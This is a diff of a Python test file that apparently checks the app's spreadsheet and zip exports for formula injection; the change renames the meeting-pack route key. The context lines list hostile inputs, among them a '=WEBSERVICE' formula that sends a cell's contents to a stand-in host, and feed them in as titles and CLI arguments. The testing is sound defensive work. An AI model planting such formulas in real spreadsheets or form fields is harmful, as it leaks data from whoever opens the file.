@@ -38,7 +38,7 @@ HOSTILE = (LINK, '=WEBSERVICE("http://x.example/?"&A1)', "@SUM(1)", "+1", "-1", 
 APP_FORMULA = re.compile(r"^SUM\([A-Z]+\d+:[A-Z]+\d+\)$")
 
 # every route that answers with a file, and the CLI commands, as the app declares them
-FILE_ROUTES = {"admin.audit_export", "evaluation.notice", "evaluation.comments", "reports.meeting_pack",
+FILE_ROUTES = {"admin.audit_export", "evaluation.notice", "evaluation.comments", "meetings.pack",
                "reports.assessment_report", "reports.opinion_sheet", "feedback.hotwords_xlsx", "feedback.report",
                "evaluation.template", "screening.template"}  # uploads answer with files too: see WRITERS
 SPREADSHEET_CLI = {"screen", "meeting-pack", "survey import", "hotwords"}
@@ -104,7 +104,7 @@ def assessment_exports(app, make, got: Collector, tmp_path) -> None:
     admin = world.client(world.admin)
     admin.post("/meetings/", {"title": HOSTILE[2], "proposal_id": str(proposal.id), "order": "score"})
     meeting = db.session.scalar(select(Meeting))
-    got.add("reports.meeting_pack.zip", admin.get(f"/meetings/{meeting.id}/pack.zip").data)
+    got.add("meetings.pack.zip", admin.get(f"/meetings/{meeting.id}/pack.zip").data)
     got.add("admin.audit_export", admin.get("/admin/audit.xlsx").data)
     out = tmp_path / "pack.zip"
     result = app.test_cli_runner().invoke(args=["meeting-pack", str(proposal.id), "-o", str(out), "--title", LINK])
